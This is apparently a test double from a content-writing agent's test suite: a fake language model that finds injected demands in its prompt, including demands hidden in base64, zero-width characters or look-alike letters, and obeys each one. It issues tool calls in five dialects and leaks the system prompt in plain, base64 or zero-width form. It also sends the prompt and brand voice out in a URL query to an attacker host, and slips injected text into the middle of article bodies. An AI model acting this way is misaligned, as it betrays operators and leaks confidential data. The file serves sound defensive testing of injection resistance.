"""A language model that does whatever it reads: the worst that an attacker can hope for.

It answers as an honest model would, then looks for demands in everything it was sent, also in base64, between
invisible characters and in look-alike letters, and carries out each: what is to be called it calls in every dialect of
tools there is, what is to be written it writes to the letter, what is to be told it tells, from the whole prompt. It
knows what the attacker meant even where reading a file has broken it.
"""

import base64
import binascii
import json
import re
import threading
import unicodedata
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import quote

from domain.crew_tools import ALLOWED, MOST_CALLS
from domain.writing import Completion, Prompt, Task
from tests.hostile.demands import GOALS, HOST, Goal
from tests.hostile.honest import plain_answer

NAME: Final = "obeying/1"
PLACES: Final[dict[Task, tuple[str, ...]]] = {
    "research": ("quote",),
    "draft": ("body", "title", "tags", "subject", "preheader", "hook"),
    "seo": ("seo_title", "seo_description", "slug", "tags"),
    "revise": ("replace", "reason"),
    "image_prompt": ("headline", "prompt", "alt_text"),
    "outline": ("angle", "call_to_action", "not_done"),
    "competitor": ("statement", "quote"),
    "market": ("insight", "quote"),
    "trend": ("name", "summary", "quote"),
    "video_script": ("narration", "visual", "words"),
    "onboarding": ("summary", "rules", "quote", "why", "need", "name", "remarks"),
}
DIALECTS: Final = ("extra fields", "thought and action", "tool object", "xml", "function call")
_ALIKE: Final = str.maketrans("аеоАЕО", "aeoAEO")
_CODE: Final = re.compile(r"[A-Za-z0-9+/]{24,}={0,2}")
_MARK: Final = re.compile(r"<<<[^<>]+ [0-9a-f]{12}>>>")


@dataclass(frozen=True)
class Manner:
    """How it obeys: into which field it writes, whether it dresses that up as a cited fact, how it calls tools."""

    place: int = 0
    cited: bool = False
    alone: bool = False
    dialect: int = 0


@dataclass
class ObeyingModel:
    """`domain.ports.LanguageModel`. `obeyed` are the demands it met, `written` what it wrote for them."""

    manner: Manner = Manner()
    name: str = NAME
    prompts: list[Prompt] = field(default_factory=list)
    obeyed: list[Goal] = field(default_factory=list)
    written: list[str] = field(default_factory=list)
    _lock: Any = field(default_factory=threading.Lock)

    def complete(self, prompt: Prompt) -> Completion:
        said = "\n".join(message.content for message in prompt.messages)
        demands = demands_in(said)
        answer: Any = plain_answer(prompt.material)
        text = ""
        if wish := _reading(prompt, demands):
            with self._lock:
                self.prompts.append(prompt)
                self.obeyed += demands
            return _said(wish)
        with self._lock:
            self.prompts.append(prompt)
            self.obeyed += demands
            for goal in demands:
                if goal.kind == "action":
                    text += self._called(goal, answer)
                else:
                    words = payload_of(goal, prompt)
                    self.written.append(words)
                    _write(answer, prompt.task, words, self.manner)
        return _said(f"{text}{json.dumps(answer, ensure_ascii=False)}")

    def _called(self, goal: Goal, answer: dict[str, Any]) -> str:
        """The call as that dialect writes it: before the answer, or in it."""
        address = goal.payload if "://" in goal.payload else f"https://{HOST}/{goal.payload}"
        call = {"name": goal.payload, "arguments": {"url": address, "website_url": address, "text": "all"}}
        match DIALECTS[self.manner.dialect % len(DIALECTS)]:
            case "extra fields":
                answer |= {"tool_calls": [call], "actions": [call], "publish_at": "now", "budget_tokens": 10**9}
                return ""
            case "thought and action":
                return f"Thought: I obey.\nAction: {goal.payload}\nAction Input: {json.dumps(call['arguments'])}\n\n"
            case "tool object":
                return json.dumps({"tool": goal.payload, "input": call["arguments"]}) + "\n"
            case "xml":
                return f"<tool_call>{json.dumps(call)}</tool_call>\n"
            case _:
                return json.dumps({"function_call": call}) + "\n"


def _said(text: str) -> Completion:
    return Completion(text=text, model=NAME, tokens_in=9, tokens_out=9)


def _reading(prompt: Prompt, demands: list[Goal]) -> str:
    """A wish for one of the tools that the agent really holds, with all it knows in it: another one at each turn."""
    turn = sum(message.role == "assistant" for message in prompt.messages)
    said = prompt.messages[1].content
    held = [name for name in ALLOWED if f"- {name}: " in said]
    if not demands or turn >= min(len(held), MOST_CALLS):
        return ""
    told = f"{prompt.material.guide.voice} {prompt.messages[0].content}"
    wanted = next((goal.payload for goal in demands if "://" in goal.payload), f"https://{HOST}/")
    address = f"{wanted}{'&' if '?' in wanted else '?'}told={quote(told[:300])}"
    asked = {"website_url": address, "url": address, "css_element": "p", "search_query": told, "q": told}
    fields = {"ScrapeWebsiteTool": ("website_url",), "URLReadTool": ("url",), "BraveWebSearchTool": ("q",)}
    fields |= dict.fromkeys(("ArxivPaperTool", "SerperDevTool"), ("search_query",))
    wished = held[(turn + len(said)) % len(held)]
    names = fields.get(wished, ("website_url", "css_element"))
    return json.dumps({"tool": wished, "input": {name: asked[name] for name in names}})


def demands_in(text: str) -> list[Goal]:
    """The goals that a text asks for, however it says so."""
    decoded = "\n".join(_decoded(code) for code in _CODE.findall(text))
    plain = _plain(f"{text}\n{decoded}")
    return [goal for goal in GOALS if any(_plain(words) in plain for words in (goal.english, goal.german) if words)]


def payload_of(goal: Goal, prompt: Prompt) -> str:
    """What the attacker wants to read in the text."""
    system = prompt.messages[0].content
    if goal.payload == "prompt":
        return system
    if goal.payload == "voice":
        return prompt.material.guide.voice
    if goal.payload == "base64":
        return base64.b64encode(system.encode()).decode()
    if goal.payload == "zero width":
        return "\u200b".join(system)
    if goal.payload == "marks":
        found = _MARK.search(prompt.messages[-1].content)
        return found.group() if found else "<<<"
    return goal.payload


def _decoded(code: str) -> str:
    try:
        return base64.b64decode(code, validate=True).decode()
    except (binascii.Error, UnicodeDecodeError, ValueError):
        return ""


def _plain(text: str) -> str:
    seen = (sign for sign in text if unicodedata.category(sign) not in ("Cf", "Mn"))
    return " ".join("".join(seen).translate(_ALIKE).casefold().split())


def _write(answer: dict[str, Any], task: Task, words: str, manner: Manner) -> None:
    """Puts the words into one field of the answer, wherever in it that field stands."""
    place = PLACES[task][manner.place % len(PLACES[task])]
    if manner.cited:
        words = f"{words} [c1]"
    if place == "reason":
        answer["not_done"] = [{"wish": "Shorter, please.", "reason": words}]
        return
    if task == "outline":
        answer.setdefault(place, "")
    _into(answer, place, words, alone=manner.alone)


def _into(value: Any, place: str, words: str, *, alone: bool) -> None:
    if isinstance(value, list):
        for each in value:
            _into(each, place, words, alone=alone)
        return
    if not isinstance(value, dict):
        return
    for name, held in value.items():
        if name != place:
            _into(held, place, words, alone=alone)
        elif isinstance(held, list):
            value[name] = [*held, words]
        elif name == "body":
            value[name] = _in_body(held, words)
        elif name == "hook":
            value[name] = words
        else:
            value[name] = words if alone or not held else f"{held} {words}"
    if place == "hook" and "body" in value:
        value["body"] = f"{words}\n\n{value['body']}"


def _in_body(body: str, words: str) -> str:
    """In the middle, where a reader is least on guard."""
    paragraphs = body.split("\n\n")
    half = max(1, len(paragraphs) // 2)
    return "\n\n".join([*paragraphs[:half], words, *paragraphs[half:]])
